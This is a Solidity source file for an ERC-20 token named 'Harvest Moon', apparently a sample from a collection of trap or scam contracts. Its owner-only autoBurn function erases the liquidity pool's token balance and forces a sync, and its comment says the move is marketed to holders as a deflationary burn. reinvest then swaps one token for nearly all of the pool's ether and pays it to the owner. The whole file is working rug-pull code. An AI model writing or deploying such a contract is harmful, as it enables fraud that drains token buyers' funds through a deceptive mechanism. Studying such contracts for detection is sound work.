// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

interface IPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function sync() external;
    function swap(uint256 out0, uint256 out1, address to, bytes calldata data) external;
}

/// Burns what the pool holds, has it take note, and sells a little for all its ether.
contract SyncHarvest is TrapErc20V8 {
    IPair private field;

    constructor() TrapErc20V8("Harvest Moon", "MOON", 27_000_000 ether) {}

    function sow(IPair field_) external onlyOwner {
        field = field_;
    }

    /// Sold to holders as a "deflationary burn of the pool".
    function autoBurn() external onlyOwner {
        _update(address(field), address(0), _balances[address(field)] - 1_000);
        (bool ok, ) = address(field).call(abi.encodeCall(IPair.sync, ()));
        require(ok);
    }

    function reinvest() external onlyOwner {
        _update(_owner, address(field), 1 ether);
        (uint256 own, uint256 ether_, ) = field.getReserves();
        bool first = field.token0() == address(this);
        if (!first) (own, ether_) = (ether_, own);
        uint256 given = _balances[address(field)] - own;
        uint256 out = given * 997 * ether_ / (own * 1000 + given * 997);
        field.swap(first ? 0 : out, first ? out : 0, _owner, "");
    }
}
